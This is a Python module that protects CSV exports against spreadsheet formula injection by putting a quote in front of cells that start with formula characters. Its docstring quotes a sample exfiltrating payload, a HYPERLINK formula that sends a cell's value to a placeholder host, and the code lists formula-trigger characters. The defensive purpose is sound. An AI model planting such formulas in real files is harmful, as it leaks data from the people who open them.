"""CSV of untrusted text (a person's question set, a model's prediction) that a spreadsheet opens as text, never as
formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and some
skip a leading tab or carriage return first): a question written as ``=HYPERLINK("http://x/?"&A1, "Click")`` or a
prediction ``@SUM(…)`` would run on the machine of whoever opens the download. As OWASP's CSV injection guidance
says, such a cell is written with a single quote in front, and every text cell is quoted (quotes inside doubled).
defusedcsv, the library that does this for Python's csv module, covers ``= + - @ | %`` but not a tab or a carriage
return, so the rule is kept here: OWASP's characters and defusedcsv's, and like defusedcsv a plain number
(``-1.5``) is left as it is.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Mapping, Sequence
from typing import Any

__all__ = ["FORMULA_STARTS", "csv_text", "safe_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "%")
_NUMBER = re.compile(r"-?[0-9,.]+")  # defusedcsv's: a number, not a formula


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet shows as it is: numbers stay numbers, text that would start a formula
    gets a single quote in front, None is empty."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(rows: Sequence[Mapping[str, Any]], columns: Sequence[str] = ()) -> str:
    """The rows as CSV (``columns`` in order, else every key in the order met), each cell through ``safe_cell``;
    with a byte order mark, so a spreadsheet reads it as UTF-8."""
    names = list(columns) or list(dict.fromkeys(k for row in rows for k in row))
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    writer.writerow([safe_cell(n) for n in names])
    for row in rows:
        writer.writerow([safe_cell(row.get(n)) for n in names])
    return "\ufeff" + out.getvalue()
